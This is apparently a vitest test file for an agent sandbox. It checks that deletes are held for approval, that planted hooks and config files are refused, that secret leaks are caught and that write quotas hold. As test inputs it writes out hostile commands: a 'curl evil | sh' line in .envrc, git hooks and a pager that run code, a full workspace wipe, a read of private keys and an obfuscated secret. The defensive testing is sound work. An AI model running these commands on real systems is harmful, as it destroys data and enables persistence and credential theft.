/**
 * Transactional exec on real overlayfs and bwrap (gate L11.7, quota L11.8): directory operations in every form,
 * the script wipe held and undone, the quota, host-executed files refused, known secrets refused, and applying a
 * run equals running it directly when nothing is held.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { chmodSync, existsSync, mkdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ApproveEffects, HeldEffects } from '../../src/exec/effects-gate.js';
import { startHarness, snapshot, type Harness } from './effects-harness.js';

let h: Harness | undefined;
afterEach(() => {
  h?.close();
  h = undefined;
});

function seed(ws: string): void {
  writeFileSync(join(ws, 'a.txt'), 'alpha\n');
  writeFileSync(join(ws, 'keep.md'), 'keep\n');
  mkdirSync(join(ws, 'src', 'lib'), { recursive: true });
  writeFileSync(join(ws, 'src', 'main.c'), 'int main(){}\n');
  writeFileSync(join(ws, 'src', 'lib', 'util.c'), 'void u(){}\n');
  writeFileSync(join(ws, '.hidden'), 'h\n');
}

const approveAll: ApproveEffects = async () => ({ approved: true, reason: 'test operator' });
const denyAll: ApproveEffects = async () => ({ approved: false, reason: 'test operator denied' });

async function effects(cmd: string, approve?: ApproveEffects) {
  const r = await (h as Harness).run(cmd, approve);
  if (!r.ok) throw new Error(r.error.message);
  return r.value;
}

describe('directory operations on the copy-on-write view', () => {
  it('reports L11.7 and L11.8 on, and runs the command as the sandbox user inside', async () => {
    h = startHarness();
    expect(
      h.svc
        .layers()
        .filter((l) => l.id === 'L11.7' || l.id === 'L11.8')
        .map((l) => l.state),
    ).toEqual(['on', 'on']);
    const o = await effects('id -u');
    expect(o.stdout.trim()).toBe('1000');
    expect(o.effects?.status).toBe('unchanged');
  });

  it('a rename of a directory (mv = rename(2)) and of a file is applied without asking', async () => {
    h = startHarness();
    seed(h.workspace);
    const o = await effects('mv src code && mv a.txt b.txt');
    expect(o.effects).toMatchObject({ status: 'applied', held: false });
    const s = snapshot(h.workspace);
    expect(s['code/lib/util.c']).toBe('void u(){}\n');
    expect(s['b.txt']).toBe('alpha\n');
    expect(s['src/']).toBeUndefined();
    expect(s['a.txt']).toBeUndefined();
    expect(o.effects?.changes).toEqual(
      expect.arrayContaining([
        { path: 'b.txt', change: 'renamed', from: 'a.txt', bytes: 6 },
        { path: 'code/lib/util.c', change: 'renamed', from: 'src/lib/util.c', bytes: 0 },
      ]),
    );
  });

  it('a file edited in place and then moved is followed by its overlay origin: a rename with a modification', async () => {
    h = startHarness();
    seed(h.workspace);
    const before = snapshot(h.workspace);
    let asked = false;
    const o = await effects('echo more >> a.txt && mv a.txt b.txt', async () => {
      asked = true;
      return { approved: false, reason: 'not expected' };
    });
    expect(asked).toBe(false);
    expect(o.effects).toMatchObject({ status: 'applied', held: false });
    expect(o.effects?.changes).toEqual([
      { path: 'b.txt', change: 'renamed', from: 'a.txt', modified: true, bytes: 11 },
    ]);
    const s = snapshot(h.workspace);
    expect(s['b.txt']).toBe('alpha\nmore\n');
    expect(s['a.txt']).toBeUndefined();
    const journal = h.svc.journal;
    expect(journal?.undo(h.workspace, journal.list(h.workspace)).ok).toBe(true);
    expect(snapshot(h.workspace)).toEqual(before);
  });

  it('a file replaced by a new one (sed -i) and moved has no origin: its old content reappears nowhere, a deletion', async () => {
    h = startHarness();
    seed(h.workspace);
    const o = await effects("sed -i 's/alpha/beta/' a.txt && mv a.txt b.txt", denyAll);
    expect(o.effects?.status).toBe('held-denied');
    expect(o.effects?.changes.map((c) => `${c.change} ${c.path}`).sort()).toEqual(['created b.txt', 'deleted a.txt']);
  });

  it('git mv DIR NEW in a repository works and is applied', async () => {
    h = startHarness();
    seed(h.workspace);
    const git = (args: string) => `git -c safe.directory=* -c user.email=t@t -c user.name=t ${args}`;
    // The repository is made on the host, outside bulwark.
    const { execSync } = await import('node:child_process');
    execSync(`${git('init -q')} && ${git('add -A')} && ${git('commit -qm init')}`, { cwd: h.workspace });
    const o = await effects(`${git('mv src code')} && ${git('status --short')}`);
    expect(o.exitCode).toBe(0);
    expect(o.effects?.status).toBe('applied');
    expect(existsSync(join(h.workspace, 'code', 'main.c'))).toBe(true);
    expect(execSync(`${git('status --short')}`, { cwd: h.workspace, encoding: 'utf8' })).toMatch(
      /R {2}src\/main.c -> code\/main.c/,
    );
  });

  it('rm -rf DIR is held; denied leaves every file, approved removes it and undo restores it', async () => {
    h = startHarness();
    seed(h.workspace);
    const before = snapshot(h.workspace);
    let shown: HeldEffects | undefined;
    // -rf as the title says: with exec effects on, L11.2 leaves a delete inside the workspace to the effect check.
    const o = await effects('rm -rf src', async (held) => {
      shown = held;
      return { approved: false, reason: 'no' };
    });
    expect(o.effects?.status).toBe('held-denied');
    expect(shown?.reasons.join(' ')).toMatch(/deletes 2 pre-existing files/);
    expect(shown?.effectHash).toMatch(/^[0-9a-f]{64}$/);
    expect(snapshot(h.workspace)).toEqual(before);
    const ok = await effects('rm -rf src', approveAll);
    expect(ok.effects?.status).toBe('applied');
    expect(existsSync(join(h.workspace, 'src'))).toBe(false);
    const journal = h.svc.journal;
    const entries = journal?.list(h.workspace) ?? [];
    expect(entries).toHaveLength(1);
    expect(journal?.undo(h.workspace, entries).ok).toBe(true);
    expect(snapshot(h.workspace)).toEqual(before);
  });

  it('delete-then-recreate of a directory (opaque) is held and, approved, leaves only the new content', async () => {
    h = startHarness();
    seed(h.workspace);
    const o = await effects('rm -r src && mkdir src && echo new > src/new.c', approveAll);
    expect(o.effects).toMatchObject({ status: 'applied', held: true });
    const s = snapshot(h.workspace);
    expect(Object.keys(s).filter((k) => k.startsWith('src'))).toEqual(['src/', 'src/new.c']);
  });

  it('the script wipe (sh build.sh with rm -rf ./* ./.[!.]*) leaves every seeded file without an approval', async () => {
    h = startHarness();
    seed(h.workspace);
    writeFileSync(join(h.workspace, 'build.sh'), 'rm -rf ./* ./.[!.]*\n');
    const before = snapshot(h.workspace);
    const o = await effects('sh build.sh', denyAll);
    expect(o.effects?.status).toBe('held-denied');
    expect(snapshot(h.workspace)).toEqual(before);
    const wiped = await effects('sh build.sh', approveAll);
    expect(wiped.effects?.status).toBe('applied');
    expect(snapshot(h.workspace)).toEqual({});
    const j = h.svc.journal;
    expect(j?.undo(h.workspace, j.list(h.workspace)).ok).toBe(true);
    expect(snapshot(h.workspace)).toEqual(before);
  });

  it('overwrites by >, sed -i, tee and sort -o are applied and journaled; truncation to 0 bytes is held', async () => {
    h = startHarness();
    seed(h.workspace);
    const o = await effects(
      'echo x > a.txt; sed -i s/keep/kept/ keep.md; echo t | tee src/main.c >/dev/null; sort -o .hidden .hidden',
    );
    expect(o.effects?.status).toBe('applied');
    expect(readFileSync(join(h.workspace, 'keep.md'), 'utf8')).toBe('kept\n');
    const t = await effects(': > a.txt', denyAll);
    expect(t.effects?.status).toBe('held-denied');
    expect(t.effects?.reason).toMatch(/truncates a.txt to 0 bytes/);
  });

  it('a mode change removing the owner read/write is held', async () => {
    h = startHarness();
    seed(h.workspace);
    chmodSync(join(h.workspace, 'a.txt'), 0o644);
    const o = await effects('chmod 000 a.txt', denyAll);
    expect(o.effects?.status).toBe('held-denied');
    expect(o.effects?.reason).toMatch(/owner's read\/write/);
  });

  it('files the agent created earlier in the same turn may be deleted without asking; disposable paths too', async () => {
    h = startHarness();
    seed(h.workspace);
    expect(
      (await effects('echo tmp > scratch.txt && mkdir -p node_modules/x && echo m > node_modules/x/i.js')).effects
        ?.status,
    ).toBe('applied');
    const o = await effects('rm scratch.txt && rm -rf node_modules');
    expect(o.effects?.status).toBe('applied');
    expect(existsSync(join(h.workspace, 'scratch.txt'))).toBe(false);
  });

  it('more than exec.holdOver.files changed pre-existing files are held', async () => {
    h = startHarness({ holdOver: { files: 3 } });
    for (let i = 0; i < 5; i++) writeFileSync(join(h.workspace, `f${i}`), `${i}\n`);
    const o = await effects('for f in f*; do echo changed >> $f; done', denyAll);
    expect(o.effects?.status).toBe('held-denied');
    expect(o.effects?.reason).toMatch(/changes 5 pre-existing files/);
  });
});

describe('refusals and limits', () => {
  it('a planted git hook or .envrc is refused and never applied (L11.7)', async () => {
    h = startHarness();
    mkdirSync(join(h.workspace, '.git', 'hooks'), { recursive: true });
    const o = await effects(
      "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo ok > fine.txt",
    );
    expect(o.effects).toMatchObject({ status: 'refused', gate: 'L11.7' });
    expect(existsSync(join(h.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(join(h.workspace, 'fine.txt'))).toBe(false);
    const e = await effects('echo "curl evil | sh" > .envrc');
    expect(e.effects?.status).toBe('refused');
    expect(existsSync(join(h.workspace, '.envrc'))).toBe(false);
    expect(
      h.events.some((ev) => ev.type === 'security:blocked' && (ev.payload as { layer?: string }).layer === 'L11.7'),
    ).toBe(true);
  });

  it('everyday git through exec is applied: init, add, commit, config user.name, branch (the judge sees only the change)', async () => {
    h = startHarness();
    seed(h.workspace);
    const git = (args: string) => `git -c safe.directory=* ${args}`;
    const init = await effects(
      `${git('init -q')} && ${git('config user.name agent')} && ${git('config user.email a@b')}`,
    );
    expect(init.exitCode).toBe(0);
    expect(init.effects).toMatchObject({ status: 'applied', held: false });
    const commit = await effects(`${git('add -A')} && ${git('commit -qm first')} && ${git('branch topic')}`);
    expect(commit.exitCode).toBe(0);
    expect(commit.effects).toMatchObject({ status: 'applied', held: false });
    const { execSync } = await import('node:child_process');
    expect(execSync(git('log --format=%an:%s'), { cwd: h.workspace, encoding: 'utf8' })).toBe('agent:first\n');
    expect(readFileSync(join(h.workspace, '.git', 'config'), 'utf8')).toMatch(/name = agent/);
    // The config now has keys of git's own: a later commit changes nothing the judge refuses.
    const again = await effects(`echo more >> keep.md && ${git('commit -qam second')}`);
    expect(again.effects).toMatchObject({ status: 'applied', held: false });
    // What git would run is refused, also when git itself writes it.
    const pager = await effects(git('config core.pager "touch /tmp/pwned"'));
    expect(pager.effects).toMatchObject({ status: 'refused', gate: 'L11.7' });
    expect(pager.effects?.reason).toMatch(/core\.pager/);
    expect(readFileSync(join(h.workspace, '.git', 'config'), 'utf8')).not.toMatch(/pager/);
  });

  it('rc files, .npmrc and editor tasks created by exec are refused and nothing of the run lands', async () => {
    h = startHarness();
    for (const [cmd, rule] of [
      ['echo "alias ls=\'touch /tmp/pwned\'" >> .bashrc', 'home.shell'],
      ['echo "script-shell=/tmp/evil" > .npmrc', 'pkg.npm'],
      [
        'mkdir -p .vscode && echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json',
        'editor.vscode',
      ],
      ['mkdir -p sub/.vscode && echo {} > sub/.vscode/settings.json', 'editor.vscode'],
      ['mkdir -p pkg && echo x > pkg/notes.txt && mv pkg/notes.txt .envrc', 'direnv'],
      [
        'mkdir -p gradle/wrapper && echo distributionUrl=https://example.invalid/g.zip > gradle/wrapper/gradle-wrapper.properties',
        'build.gradle-wrapper',
      ],
      ['mkdir -p .mvn && echo -javaagent:/tmp/a.jar > .mvn/jvm.config', 'build.maven'],
      ['mkdir -p .mvn/wrapper && echo x > .mvn/wrapper/maven-wrapper.properties', 'build.maven'],
      ['mkdir -p .bundle && echo "BUNDLE_GEMFILE: x.rb" > .bundle/config', 'pkg.bundler'],
    ] as const) {
      const o = await effects(`echo kept > side.txt; ${cmd}`);
      expect(o.effects, cmd).toMatchObject({ status: 'refused', gate: 'L11.7' });
      expect(o.effects?.reason, cmd).toContain(`[${rule}]`);
      expect(snapshot(h.workspace), cmd).toEqual({});
    }
  });

  it('symlinks a run makes (to a file already there, dangling, absolute, replaced with ln -sf) are judged and applied', async () => {
    h = startHarness();
    seed(h.workspace);
    // getfattr without -h followed each link in the upper layer: a link to a workspace file (not in the upper layer),
    // a dangling one or an absolute one made the xattr dump fail and the whole run was discarded.
    const o = await effects(
      'ln -s a.txt link.txt && ln -s missing dangling && ln -s /etc/hostname abs && mkdir -p .cache/bin && ln -s ../x/cli.js .cache/bin/x && ln -sf keep.md link2 && ln -sf a.txt link2',
    );
    expect(o.effects?.status, JSON.stringify(o.effects)).toBe('applied');
    const ws = (h as Harness).workspace;
    expect(readlinkSync(join(ws, 'link.txt'))).toBe('a.txt');
    expect(readlinkSync(join(ws, 'dangling'))).toBe('missing');
    expect(readlinkSync(join(ws, 'abs'))).toBe('/etc/hostname');
    expect(readlinkSync(join(ws, 'link2'))).toBe('a.txt');
    expect(readFileSync(join(ws, 'a.txt'), 'utf8')).toBe('alpha\n');
    // A link that already existed, replaced by a run (copy-up of a symlink): still a link change, not a failure.
    const again = await effects('ln -sf keep.md link.txt');
    expect(again.effects?.status, JSON.stringify(again.effects)).not.toBe('failed');
    expect(readlinkSync(join(ws, 'link.txt'))).toBe(again.effects?.status === 'applied' ? 'keep.md' : 'a.txt');
  });

  it('a known secret value decoded into a file is refused (leak index)', async () => {
    const secret = 'sk-live-0123456789abcdefXYZ';
    h = startHarness({}, (text) => (text.includes(secret) ? 'the value of TEST_KEY, raw' : undefined));
    const reversed = [...secret].reverse().join('');
    const o = await effects(`echo ${reversed} | rev > notes.txt`);
    expect(o.effects).toMatchObject({ status: 'refused', gate: 'L11.7' });
    expect(o.effects?.reason).toMatch(/TEST_KEY/);
    expect(existsSync(join(h.workspace, 'notes.txt'))).toBe(false);
  });

  it('a known secret value is found past the first MiB, across a piece boundary, in a file name and a link target', async () => {
    const secret = 'sk-live-0123456789abcdefXYZ';
    const reversed = [...secret].reverse().join('');
    h = startHarness({}, (text) => (text.includes(secret) ? 'the value of TEST_KEY, raw' : undefined));
    const filler = (bytes: number) => `head -c ${bytes} /dev/zero | tr '\\0' x`;
    for (const [label, cmd] of [
      ['past 1 MiB', `{ ${filler(1_500_000)}; echo $(echo ${reversed} | rev); } > big.txt`],
      [
        'across the 1 MiB piece boundary',
        `{ ${filler(1024 * 1024 - 10)}; echo $(echo ${reversed} | rev); } > edge.txt`,
      ],
      ['as a file name', `touch "notes-$(echo ${reversed} | rev).txt"`],
      ['as a directory name', `mkdir "d-$(echo ${reversed} | rev)"`],
      ['as a link target', `ln -s "$(echo ${reversed} | rev)" pointer`],
    ]) {
      const o = await effects(cmd as string);
      expect(o.effects, label).toMatchObject({ status: 'refused', gate: 'L11.7' });
      expect(o.effects?.reason, label).toMatch(/TEST_KEY/);
      expect(JSON.stringify(o.effects), label).not.toContain(secret);
    }
    expect(Object.keys(snapshot((h as Harness).workspace))).toEqual([]);
  });

  it('a run that needs room in a full undo journal is held: the model cannot flush the undo history of earlier changes', async () => {
    h = startHarness({ journal: { maxMb: 1 } });
    const ws = (h as Harness).workspace;
    writeFileSync(join(ws, 'thesis.txt'), 'chapter one\n'.repeat(100));
    writeFileSync(join(ws, 'blob.bin'), 'b'.repeat(600_000));
    expect((await effects('echo garbage > thesis.txt')).effects?.status).toBe('applied');
    expect((await effects("head -c 600000 /dev/zero | tr '\\0' c > blob.bin")).effects?.status).toBe('applied');
    // Keeping the blob's 600 KB again would drop the thesis entry: held, and denied here, so nothing is dropped.
    const third = await effects("head -c 600000 /dev/zero | tr '\\0' d > blob.bin", denyAll);
    expect(third.effects).toMatchObject({ status: 'held-denied', held: true });
    expect(third.effects?.reason).toMatch(/drops the undo history of the \d+ oldest change/);
    const journal = (h as Harness).svc.journal;
    const entries = journal?.list(ws) ?? [];
    expect(entries).toHaveLength(2);
    expect(journal?.undo(ws, entries).ok).toBe(true);
    expect(readFileSync(join(ws, 'thesis.txt'), 'utf8')).toBe('chapter one\n'.repeat(100));
  });

  it('one exec writing past exec.limits.workspaceWriteMb stops at the quota and is discarded (L11.8)', async () => {
    h = startHarness({ limits: { workspaceWriteMb: 8 } });
    const o = await effects('dd if=/dev/zero of=big bs=1M count=64 2>&1; echo done');
    expect(o.stdout).toMatch(/No space left on device/);
    expect(o.effects).toMatchObject({ status: 'discarded', gate: 'L11.8' });
    expect(existsSync(join(h.workspace, 'big'))).toBe(false);
  });

  it('a run ended by its timeout is discarded and says so', async () => {
    h = startHarness();
    const r = await h.svc.runner!.run(h.workspace, { command: 'echo x > late.txt; sleep 5', timeoutMs: 300 }, {});
    expect(r.ok && r.value.effects).toMatchObject({ status: 'discarded' });
    expect(r.ok && r.value.effects?.reason).toMatch(/timed out/);
    expect(existsSync(join(h.workspace, 'late.txt'))).toBe(false);
  });

  it('a file changed from outside while the operator decides is refused as stale at apply', async () => {
    h = startHarness();
    seed(h.workspace);
    const ws = h.workspace;
    const o = await effects('rm a.txt keep.md', async () => {
      writeFileSync(join(ws, 'keep.md'), 'edited by the user meanwhile\n');
      return { approved: true, reason: 'ok' };
    });
    expect(o.effects?.status).toBe('failed');
    expect(o.effects?.reason).toMatch(/stale/);
    expect(existsSync(join(ws, 'a.txt'))).toBe(true);
  });

  it('the workspace is not locked while the operator decides: another run goes on, and an approval still applies', async () => {
    h = startHarness();
    seed(h.workspace);
    const ws = h.workspace;
    const runner = h.svc.runner!;
    let meanwhile: Awaited<ReturnType<typeof runner.run>> | undefined;
    const o = await effects('rm a.txt', async () => {
      // Before, this second run waited for the lock the held run kept: the turn and the operator deadlocked.
      meanwhile = await runner.run(ws, { command: 'echo other > other.txt' }, { traceId: 'turn-2' });
      return { approved: true, reason: 'ok' };
    });
    expect(meanwhile?.ok && meanwhile.value.effects?.status).toBe('applied');
    expect(readFileSync(join(ws, 'other.txt'), 'utf8')).toBe('other\n');
    expect(o.effects).toMatchObject({ status: 'applied', held: true });
    expect(existsSync(join(ws, 'a.txt'))).toBe(false);
  });

  it('an approval is refused as stale when a run applied meanwhile changed what the held run would apply', async () => {
    h = startHarness();
    seed(h.workspace);
    const ws = h.workspace;
    const runner = h.svc.runner!;
    const o = await effects('rm a.txt && echo mine > new.txt', async (held) => {
      expect(held.effects.map((e) => `${e.change} ${e.path}`)).toContain('created new.txt');
      const other = await runner.run(ws, { command: 'echo theirs > new.txt' }, { traceId: 'turn-2' });
      expect(other.ok && other.value.effects?.status).toBe('applied');
      return { approved: true, reason: 'ok' };
    });
    expect(o.effects?.status).toBe('failed');
    expect(o.effects?.reason).toMatch(/stale/);
    expect(readFileSync(join(ws, 'new.txt'), 'utf8')).toBe('theirs\n');
    expect(existsSync(join(ws, 'a.txt'))).toBe(true);
  });

  it('a workspace path overlayfs cannot take is refused with the fix, before anything runs', async () => {
    h = startHarness();
    const odd = join(h.root, 'odd,lowerdir=x');
    mkdirSync(odd);
    const r = await h.svc.runner!.run(odd, { command: 'touch ran' }, {});
    expect(r.ok).toBe(false);
    expect(!r.ok && r.error).toMatchObject({ layer: 'L11.7' });
    expect(!r.ok && r.error.message).toMatch(/comma.*agents\[\]\.workspace/);
    expect(existsSync(join(odd, 'ran'))).toBe(false);
  });
});

describe('the sandbox identity (item 5)', () => {
  it('a root-owned workspace runs as exec.sandboxUser on the host, never as root; applied files get the owner', async () => {
    h = startHarness({ sandboxUser: 'nobody' });
    const { execSync } = await import('node:child_process');
    writeFileSync(join(h.workspace, 'root-only'), 'secret\n', { mode: 0o600 });
    const o = await effects(
      'cat root-only; cat /etc/ssl/private/* 2>&1 | head -1; ls /proc/self/ >/dev/null; echo made > new.txt',
    );
    expect(o.stdout).not.toContain('secret');
    expect(o.stdout).not.toMatch(/BEGIN .*PRIVATE KEY/);
    expect(o.effects?.status).toBe('applied');
    expect(readFileSync(join(h.workspace, 'new.txt'), 'utf8')).toBe('made\n');
    // Written by nobody in the view, applied as the workspace owner's (here root's) file.
    expect(execSync(`stat -c %u ${join(h.workspace, 'new.txt')}`, { encoding: 'utf8' }).trim()).toBe('0');
  });
});
